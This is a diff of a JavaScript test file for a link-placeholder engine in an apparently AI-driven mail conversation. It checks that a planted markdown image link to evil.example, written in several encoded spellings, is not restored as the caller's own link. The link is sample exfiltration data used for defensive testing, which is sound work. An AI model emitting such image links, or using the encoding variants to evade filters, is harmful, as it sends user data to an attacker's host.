@@ -99,10 +99,13 @@ test('a link that the caller has sent is restored, and no other of its host', as
 
 test('a link with placeholders that stand in the request already is not the caller’s own', async (t) => {
   const first = await conversed([]);
-  const planted = `${person}: ${first.written('https://evil.example/?q=M!')}`;
-  const second = await first.engine.cast(castRequest([mail, planted], { earlier: [first.conversation.mapping] }));
   const text = first.written('![x](https://evil.example/?q=M!)');
-  t.is(second.restore(text), text);
+  const spellings = [text, text.replace('-', '_'), text.replace('-', '\\_'), text.replace('[E', '%5BE')];
+  for (const spelled of spellings) {
+    const planted = `${person}: ${spelled}`;
+    const second = await first.engine.cast(castRequest([mail, planted], { earlier: [first.conversation.mapping] }));
+    for (const said of spellings) t.is(second.restore(said), said);
+  }
 });
 
 test('links and hosts of earlier turns are remembered with their mapping', async (t) => {
